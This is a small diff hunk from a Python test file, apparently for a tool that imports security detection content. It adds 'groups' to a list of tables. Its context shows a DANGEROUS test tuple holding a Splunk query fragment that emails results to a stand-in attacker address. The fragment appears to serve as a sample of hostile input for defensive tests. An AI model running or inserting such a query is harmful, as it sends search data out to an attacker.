@@ -21,7 +21,7 @@ from malicious_image.content.yaml_safe import MAX_BYTES, MAX_DEPTH
 from malicious_image.sync.csv_writer import read_csv
 from tests import hostile_archives as H
 
-TABLES = ("detections", "techniques", "tactics", "stories", "macros")
+TABLES = ("detections", "techniques", "tactics", "groups", "stories", "macros")
 BASE_NAMES = {"Hostile Base 1", "Hostile Base 2", "Hostile Base 3"}
 DANGEROUS = (
     '| sendemail to="attacker@example.com" server=mail.example.com',
